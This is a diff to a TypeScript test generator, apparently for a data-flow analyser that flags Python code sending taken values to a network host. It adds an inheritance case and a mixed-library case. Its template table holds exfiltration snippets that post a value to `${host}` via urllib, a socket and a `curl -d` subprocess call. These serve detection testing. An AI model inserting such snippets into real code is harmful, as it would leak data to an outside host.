@@ -26,6 +26,11 @@ const sinks: readonly (readonly [name: string, imports: string, sent: string])[]
   ['an address', 'import urllib.request', `urllib.request.urlopen(f'https://${host}/?d={X}')`],
   ['a socket', 'import socket', `socket.create_connection(('${host}', 443)).sendall(str(X).encode())`],
   ['a program', 'import subprocess', `subprocess.run(['curl', '-d', str(X), 'https://${host}/x'])`],
+  [
+    'some library beside one that is known',
+    'import requests\nfrom somelib import Client',
+    `Client('https://${host}').record(X)`,
+  ],
   ['some library', 'from somelib import Client', `Client('https://${host}').record(X)`],
   [
     'a thread',
@@ -97,6 +102,11 @@ const ways: Readonly<Record<string, (parts: Parts) => Files>> = {
     'demo/send.py': give(p),
     'demo/run.py': 'from .take import a\nfrom .send import b\ndef f():\n    b(a())\n',
   }),
+  'a base of a base': (p) =>
+    all(
+      p,
+      `class C:\n    def go(self):\n        x = self.take()\n        ${p.send('x')}\nclass B(C):\n    pass\nclass A(B):\n    def take(self):\n        return ${p.taken}`,
+    ),
   'a base in another file': (p) => ({
     'demo/base.py': `${p.by}\nclass Base:\n    def go(self):\n        x = self.read()\n        ${p.send('x')}\n`,
     'demo/run.py': `${p.from}\nfrom .base import Base\nclass A(Base):\n    def read(self):\n        return ${p.taken}\n`,
